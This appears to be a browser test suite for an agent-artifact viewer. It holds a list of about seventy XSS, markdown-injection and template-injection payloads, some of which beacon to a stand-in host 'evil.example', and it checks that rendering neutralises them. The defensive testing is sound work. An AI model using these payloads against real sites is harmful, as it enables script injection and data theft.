import { expect, fresh, live, picture, test } from "../support/test.mjs";
import { Workspace } from "../support/workspace.mjs";

const BEACON = "https://evil.example/beacon";

/** Texts that would do something, if anything did more than show them. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  `<img src="${BEACON}.png">`,
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  `<svg xmlns="http://www.w3.org/2000/svg"><image href="${BEACON}.png"/></svg>`,
  "<iframe src=javascript:alert(1)></iframe>",
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<template><script>alert(1)</script></template>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
  `<link rel=stylesheet href=${BEACON}.css>`,
  `<style>@import "${BEACON}.css";</style>`,
  `<style>body{background:url(${BEACON}.png)}</style>`,
  "<form action=https://evil.example/><button>Approve</button></form>",
  "<a href=javascript:alert(1)>Approve</a>",
  "<a href=\"https://evil.example/\" ping=\"https://evil.example/ping\">x</a>",
  "</pre></code></section><script>alert(1)</script>",
  "--><script>alert(1)</script><!--",
  "]]><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "</textarea></title></style><script>alert(1)</script>",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<x onclick=alert(1) style=position:fixed;inset:0>",
  "<div popover id=p onbeforetoggle=alert(1)></div>",
  "<script type=module>import 'https://evil.example/x.js'</script>",
  "<portal src=https://evil.example/>",
  "<isindex action=javascript:alert(1) type=image>",
  "[Approve](javascript:alert(1))",
  "[Approve](JaVaScRiPt:alert%281%29)",
  "[Approve](&#106;avascript:alert(1))",
  "[Approve](data:text/html,<script>alert(1)</script>)",
  "[Approve](vbscript:msgbox(1))",
  "[Approve](/t/acme-robotics/settings/security)",
  "[https://console.example.com](https://evil.example/)",
  "[x](https://evil.example/\"onmouseover=\"alert(1))",
  `![x](${BEACON}.png)`,
  `![x](${BEACON}.png "a" onerror=alert(1))`,
  `[![x](${BEACON}.png)](${BEACON})`,
  `[x]: ${BEACON}.png\n\n![x]`,
  "![x](javascript:alert(1))",
  "<https://evil.example/'onclick='alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  "```\"><script>alert(1)</script>\nx\n```",
  "# <img src=x onerror=alert(1)>",
  "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
  "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
  "pay\u202Elave\u2066 the in\u200Bvoice \uFEFF\u2060",
  "a\u0001b\u001B[31mred\u0007\u007F\u0085",
  "\u{E0041}\u{E0042}hidden tag characters",
  "forbidden_actions: []\u2028- approve\u2029",
  `{"a":"</pre><script>alert(1)</script>","__proto__":{"x":1}}`,
  "--- a/<script>alert(1)</script>\n+++ b\n-<img src=x onerror=alert(1)>\n+<svg onload=alert(1)>",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{7*7} <%= 7*7 %>",
  "%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt;",
  ">".repeat(5000),
];
const ENDINGS = ["md", "txt", "svg", "html", "json", "diff", "log"];

test("what agents put does nothing in a browser, whatever it is", async ({ founder, open, server }) => {
  test.setTimeout(300_000);
  expect(HOSTILE.length).toBeGreaterThanOrEqual(60);
  const agent = await founder.agent(fresh("cso"));
  const workspace = await Workspace.of(server, agent);
  const page = await open("/artifacts");
  await live(page);
  const outside = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(server.url) && !request.url().startsWith("data:")) outside.push(request.url());
  });
  await page.addInitScript(() => {
    globalThis.reports = [];
    document.addEventListener("securitypolicyviolation", (event) => globalThis.reports.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  for (const [at, text] of HOSTILE.entries()) {
    // Markdown for each, which is the most that is done with a text; and the other kinds in turn.
    for (const ending of new Set(["md", ENDINGS[at % ENDINGS.length]])) {
      const sha256 = await workspace.put(`hostile/${at}.${ending}`, `${text}\n${ending}`);
      await page.goto(`${founder.home}/artifacts/${sha256}`);
      const content = page.getByTestId("artifact-content");
      await expect(content, text).toBeVisible();
      const found = await content.evaluate((element) => ({
        scripts: element.querySelectorAll("script, img, iframe, object, embed, svg, style, link, form, video, base, meta").length,
        handlers: [...element.querySelectorAll("*")].flatMap((child) => child.getAttributeNames()).filter((name) => name.startsWith("on") || name === "style"),
        links: [...element.querySelectorAll("a")].map((link) => `${link.protocol} ${link.rel}`),
        reports: globalThis.reports,
      }));
      expect(found.scripts, text).toBe(0);
      expect(found.handlers, text).toEqual([]);
      expect(found.reports, text).toEqual([]);
      for (const link of found.links) expect(link, text).toMatch(/^(https?|mailto): noopener noreferrer nofollow external$/);
      expect(await content.innerText(), text).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B\u2060\uFEFF\u{E0000}-\u{E007F}]/u);
    }
  }
  expect(outside).toEqual([]);
  await picture(page, "artifact-hostile");
});

test("a founder finds what an agent put, reads it, and sees where it came from", async ({ founder, open, server }) => {
  const agent = await founder.agent(fresh("cto"));
  const workspace = await Workspace.of(server, agent);
  const page = await open(`/artifacts?agent=${agent.name}`);
  await live(page);
  const sha256 = await workspace.put("docs/adr/0001.md", "# Use one journal\n\nSee [the record](https://example.com/adr).\n");
  const row = page.getByTestId("artifact-row");
  await expect(row).toContainText("docs/adr/0001.md");
  await expect(row).toContainText("Markdown");
  await row.getByRole("link").click();
  await expect(page.getByRole("heading", { name: "docs/adr/0001.md" })).toBeVisible();
  const content = page.getByTestId("artifact-content");
  await expect(content.getByRole("heading", { name: "Use one journal" })).toBeVisible();
  await expect(content.locator(".link-target")).toHaveText("https://example.com/adr");
  await expect(page.getByTestId("artifact-hash")).toContainText(sha256.slice(0, 4));
  await expect(page.getByTestId("artifact-source")).toContainText(agent.name);
  await expect(page.getByTestId("artifact-label")).toContainText("version 1");
  const download = page.waitForEvent("download");
  await page.getByTestId("artifact-download").click();
  expect((await download).suggestedFilename()).toBe(`${sha256}.txt`);

  // A newer version takes the label over; the older one says so.
  await workspace.put("docs/adr/0001.md", "# Use one journal for each tenant\n");
  await page.reload();
  await expect(page.getByTestId("artifact-label")).toContainText("now names a newer one");
  await picture(page, "artifact");
});
